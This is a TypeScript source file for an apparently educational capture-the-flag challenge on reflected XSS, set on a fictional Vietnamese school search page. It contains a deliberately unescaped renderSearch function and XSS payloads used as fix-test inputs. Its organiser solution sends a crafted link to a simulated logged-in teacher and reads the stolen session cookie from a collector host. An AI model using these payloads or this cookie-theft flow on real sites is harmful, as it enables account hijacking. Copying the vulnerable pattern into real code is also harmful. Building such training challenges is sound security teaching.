import { createSite, html, page } from '../http.ts';
import { activeContent } from '../fixcheck.ts';
import { seen, type ChallengeModule, type ChallengeSolution, type FixCase } from '../types.ts';
import { COLLECTOR, STEAL, collectorHost, cookieFrom, record } from './xss-common.ts';

const HOST = 'tracuu.thpt-leloi.test';

export const VULNERABLE = `// Trả về phần HTML của trang kết quả tìm kiếm. / Returns the HTML of the search-results part.
function renderSearch(q) {
  return '<input name="q" value="' + q + '"><p>Kết quả cho: ' + q + '</p>';
}`;

const REFERENCE = `function renderSearch(q) {
  const esc = (s) => String(s).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
  return '<input name="q" value="' + esc(q) + '"><p>Kết quả cho: ' + esc(q) + '</p>';
}`;

const render = (q: string) => `<input name="q" value="${q}"><p>Kết quả cho: ${q}</p>`;
const doc = (q: string) => page('Tra cứu – THPT Lê Lợi', `<h1>Tra cứu thông báo</h1><form action="/tim">${render(q)}<button>Tìm</button></form>`);

const safe = (q: string, vi: string, en: string): FixCase => ({ kind: 'exploit', label: { vi, en }, args: [q], judge: (o, env) => o.ok && typeof o.value === 'string' && activeContent(env.parseHtml(`<form>${o.value}</form>`)).length === 0 && (env.parseHtml(`<form>${o.value}</form>`).querySelector('input')?.getAttribute('value') ?? '') === q });
const shows = (q: string): FixCase => ({
  kind: 'normal', label: { vi: `Tìm “${q}” hiện đúng chữ`, en: `Searching “${q}” shows it as typed` }, args: [q],
  judge: (o, env) => { if (!o.ok || typeof o.value !== 'string') return false; const d = env.parseHtml(`<form>${o.value}</form>`); return d.querySelector('input')?.getAttribute('value') === q && d.querySelector('p')?.textContent === `Kết quả cho: ${q}`; },
});

export const xssReflected: ChallengeModule = {
  id: 'xss-reflected',
  start: `http://${HOST}/tim?q=lich+thi`,
  createSite: ({ flag, victim }) => {
    const log: string[] = [];
    return createSite([
      { host: HOST, routes: {
        'GET /tim': (_r, url) => html(doc(url.searchParams.get('q') ?? '') + `<form method="post" action="/gui-thay"><label>Gửi một đường link tra cứu cho thầy Quang (thầy sẽ mở nó khi đang đăng nhập) <input name="link"></label><button>Gửi</button></form>`),
        'POST /gui-thay': async (req) => {
          let url: URL;
          try { url = new URL(req.form.link ?? ''); } catch { return html(page('Lỗi', '<p>Link không hợp lệ.</p>'), 400); }
          if (url.hostname !== HOST || url.pathname !== '/tim') return html(page('Không mở', '<p>Thầy chỉ mở link tra cứu của trường.</p>'));
          const n = record(log, await victim(doc(url.searchParams.get('q') ?? ''), `phien=${flag}`));
          return html(page('Đã gửi', `<p>Thầy Quang đã mở link.${n ? ` Máy của em nhận được ${n} yêu cầu: xem http://${COLLECTOR}/` : ''}</p>`));
        },
      } },
      collectorHost(log),
    ]);
  },
  fix: {
    fn: 'renderSearch', language: 'javascript', vulnerable: VULNERABLE,
    cases: [
      safe(STEAL, 'Chặn <script> trong nội dung', 'Block <script> in the text'),
      safe('" autofocus onfocus="alert(1)', 'Chặn thoát khỏi thuộc tính value', 'Block breaking out of the value attribute'),
      safe('"><img src=x onerror=alert(1)>', 'Chặn "><img onerror>', 'Block "><img onerror>'),
      shows('lịch thi <học kì 1> & "điểm"'),
      shows('thời khoá biểu'),
    ],
  },
};

/** The organiser's reference solution and a beginner's naive attempt (never bundled into the player's page). */
export const xssReflectedSolution: ChallengeSolution = {
  async solve(c) {
    const link = `http://${HOST}/tim?q=${encodeURIComponent(`"><p>${STEAL}</p>`)}`;
    const r = await c.post(`http://${HOST}/gui-thay`, { link });
    const log = await c.get(`http://${COLLECTOR}/`);
    return seen(r, log) + '\n' + cookieFrom(log.body);
  },
  async naive(c) {
    // Runs the payload in their own browser only: their own cookie, not the teacher's.
    const own = await c.get(`http://${HOST}/tim?q=${encodeURIComponent(STEAL)}`);
    return seen(own, await c.post(`http://${HOST}/gui-thay`, { link: `http://${COLLECTOR}/` }), await c.get(`http://${COLLECTOR}/`));
  },
  reference: REFERENCE,
};
